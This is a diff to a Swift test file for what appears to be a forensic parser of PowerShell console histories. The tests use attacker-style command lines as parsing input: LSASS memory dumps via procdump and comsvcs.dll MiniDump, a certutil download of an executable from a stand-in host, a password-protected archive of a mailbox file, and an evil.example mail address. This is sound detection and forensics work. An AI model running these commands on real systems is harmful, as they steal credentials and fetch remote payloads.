@@ -45,7 +45,21 @@ struct PowerShellTests {
         "Mailbox=ann", "FilePath=\\\\ex01\\c$\\a b.pst", "ContentFilter=(Body -like '*x*')",
       ])
     #expect(reading.records[2].cmdlet?.parameters.last?.value == "x@evil.example")
-    #expect(reading.records[3].cmdlet == nil)
+    #expect(reading.records[3].cmdlet == nil && reading.records[3].target == nil)
+  }
+
+  @Test(
+    "a program that is no cmdlet is a record too, with what it was given as entered",
+    arguments: [
+      ("7z a -pX C:\\t\\a.7z 'C:\\b c.pst'", "7z", "a -pX C:\\t\\a.7z 'C:\\b c.pst'"),
+      ("& 'C:\\t\\procdump64.exe' -ma lsass.exe l.dmp", "C:\\t\\procdump64.exe", "-ma lsass.exe l.dmp"),
+      ("rundll32 comsvcs.dll, MiniDump 612 m.dmp full; dir", "rundll32", "comsvcs.dll, MiniDump 612 m.dmp full"),
+      ("certutil -urlcache -f http://x/y.exe  y.exe | Out-Null", "certutil", "-urlcache -f http://x/y.exe  y.exe"),
+    ])
+  func programs(line: String, name: String, arguments: String) async throws {
+    let reading = try await Reading.of("Get-Mailbox\n\(line)\n", by: ConsoleHistoryReader.self)
+    #expect(reading.records[1].operation == name && reading.records[1].target == arguments)
+    #expect(reading.records[1].cmdlet == nil)
   }
 
   @Test("a console history is told by its content; a script, mail and prose are not one")
